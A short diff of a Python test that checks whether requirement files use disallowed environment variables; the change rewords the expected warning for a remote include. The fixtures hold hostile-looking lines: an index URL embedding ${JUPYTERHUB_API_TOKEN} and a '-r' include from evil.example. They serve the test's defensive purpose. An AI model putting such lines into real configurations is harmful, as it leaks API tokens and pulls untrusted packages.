@@ -82,7 +82,10 @@ async def test_requirement_files_are_looked_at(call: Call, channel_server: Chann
     for line, told in (
         ("--index-url http://127.0.0.1:9/${JUPYTERHUB_API_TOKEN}", "uses the variable JUPYTERHUB_API_TOKEN"),
         ("--index-url http://127.0.0.1:9/${CAMPUS_X}", "uses the variable CAMPUS_X"),
-        ("-r https://evil.example/b.txt", "https://evil.example/b.txt may use variables that are not allowed"),
+        (
+            "-r https://evil.example/b.txt",
+            "https://evil.example/b.txt cannot be checked for variables that are not allowed",
+        ),
     ):
         (jp_root_dir / "course" / "a.txt").write_text(f"rich\n{line}\n")
         checked = (await call("POST", "specs/check", {"path": "course/environment.yml"})).json
